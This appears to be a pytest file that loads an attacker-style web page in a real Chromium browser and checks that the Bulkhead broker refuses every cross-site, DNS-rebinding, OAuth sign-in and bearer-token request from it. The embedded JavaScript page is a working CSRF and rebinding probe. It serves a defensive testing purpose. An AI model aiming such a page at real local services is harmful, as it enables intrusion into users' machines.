"""A real browser on a page that wants into Bulkhead.

It even knows the address and the bearer.  Chromium runs without a network of its own making: every name leads to this
machine.
"""

import asyncio
import json
import os
import socket
import tempfile
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any, Final

import pytest

from broker.endpoints.http_server import Answer, Head, HttpServer, Reply, Work
from tests.chromium import CHROMIUM, LIMIT, OPTIONS
from tests.endpoints.front import Front, fronted
from tests.protocol.stage import INITIALIZE

PAGE: Final = """<!doctype html><body><script>
const body = %(body)s, bearer = %(bearer)s, results = {};
async function attempt(name, url, options) {
  try {
    const answer = await fetch(url, options);
    results[name] = answer.type + " " + answer.status + " " + (await answer.text()).slice(0, 200);
  } catch (problem) { results[name] = "failed"; }
}
(async () => {
  for (const [place, url] of Object.entries(%(urls)s)) {
    await attempt(place + " plain", url, {method: "POST", mode: "no-cors", body});
    await attempt(place + " get", url, {mode: "no-cors"});
    await attempt(place + " stream", url + "/sse", {mode: "no-cors"});
    await attempt(place + " with bearer", url, {method: "POST", body, headers: {
      "authorization": bearer, "content-type": "application/json", "accept": "application/json, text/event-stream"}});
  }
  for (const [name, [url, options]] of Object.entries(%(sign_in)s)) await attempt(name, url, options);
  for (const kind of ["iframe", "img"]) {
    const seen = document.createElement(kind);
    const done = new Promise(end => { seen.onload = seen.onerror = end; });
    seen.src = %(authorize)s;
    document.body.append(seen);
    await done;
  }
  await fetch("/report", {method: "POST", body: JSON.stringify(results)});
})();
</script>"""

pytestmark = pytest.mark.skipif(CHROMIUM is None, reason="needs chromium")


def watched(front: Front) -> list[int]:
    """The status of every refusal from now on; 0 for a request that was let in."""
    statuses: list[int] = []
    assert front.door._front is not None
    server = front.door._front.server
    judge = server._judge

    def watch(head: Head) -> Reply | Work:
        verdict = judge(head)
        statuses.append(verdict.status if isinstance(verdict, Reply) else 0)
        return verdict

    server._judge = watch
    return statuses


@asynccontextmanager
async def page(front: Front, reports: "asyncio.Queue[dict[str, str]]") -> AsyncIterator[int]:
    """A site that attacks; the port it is at."""
    port = front.url.split(":")[2].partition("/")[0]
    desk = front.sign_in.rpartition("/")[0] + "/@sign-in/"
    form = {"method": "POST", "mode": "no-cors", "body": "grant_type=authorization_code&code=x",
            "headers": {"content-type": "application/x-www-form-urlencoded"}}  # fmt: skip
    sign_in: dict[str, Any] = {
        "sign-in plain register": (desk + "register", {"method": "POST", "mode": "no-cors", "body": "{}"}),
        "sign-in plain token": (desk + "token", form),
        "sign-in plain authorize": (desk + "authorize", {"mode": "no-cors", "credentials": "include"}),
        "sign-in with bearer": (desk + "register", {"method": "POST", "headers": {"content-type": "application/json"},
                                                    "body": json.dumps({"redirect_uris": ["http://127.0.0.1/"]})}),
    }  # fmt: skip
    urls = {"cross-site": front.url, "rebound": front.url.replace("127.0.0.1", "evil.example")}
    text = PAGE % {
        "body": json.dumps(json.dumps(INITIALIZE)),
        "bearer": json.dumps(front.bearer["authorization"]),
        "urls": json.dumps(urls),
        "sign_in": json.dumps(sign_in),
        "authorize": json.dumps(desk + "authorize?client_id=x"),
    }
    assert port in text

    def judge(head: Head) -> Any:
        async def serve(body: bytes) -> Answer:
            if head.method == "POST":
                reports.put_nowait(json.loads(body))
                return Reply(204)
            return Reply(200, text.encode(), (("content-type", "text/html"),))

        return serve

    server = HttpServer(judge)
    listener = socket.create_server(("127.0.0.1", 0))
    server.open(listener)
    try:
        yield listener.getsockname()[1]
    finally:
        await server.close()


@pytest.mark.claim("C64")
async def test_no_page_in_a_browser_gets_in_even_with_the_address_and_the_bearer(tmp_path: Path) -> None:
    assert CHROMIUM is not None
    reports: asyncio.Queue[dict[str, str]] = asyncio.Queue()
    async with fronted(tmp_path) as front, page(front, reports) as port:
        statuses = watched(front)
        with tempfile.TemporaryDirectory(prefix="bh-browser-", ignore_cleanup_errors=True) as folder:
            browser = await asyncio.create_subprocess_exec(
                CHROMIUM,
                *OPTIONS,
                f"--user-data-dir={folder}",
                f"http://evil.example:{port}/",
                env={**os.environ, "HOME": folder},
                stdin=asyncio.subprocess.DEVNULL,
                stdout=asyncio.subprocess.DEVNULL,
                stderr=asyncio.subprocess.DEVNULL,
                start_new_session=True,
            )
            try:
                async with asyncio.timeout(LIMIT):
                    results = await reports.get()
            finally:
                os.killpg(browser.pid, 9)
                await browser.wait()
        assert len(results) == 12
        for name, result in results.items():
            assert result in ("failed", "opaque 0 ")  # nothing of an answer can be read
            assert name.endswith("with bearer") <= (result == "failed"), (name, result)
        assert len(statuses) >= 11 and set(statuses) == {403}  # they were made, and for what they are sent away
        assert front.rooms.house.consent.open() == () and front.rooms.sessions.all() == () and front.rooms.servers == []
        assert (await front.modern("tools/list")).status_code == 200
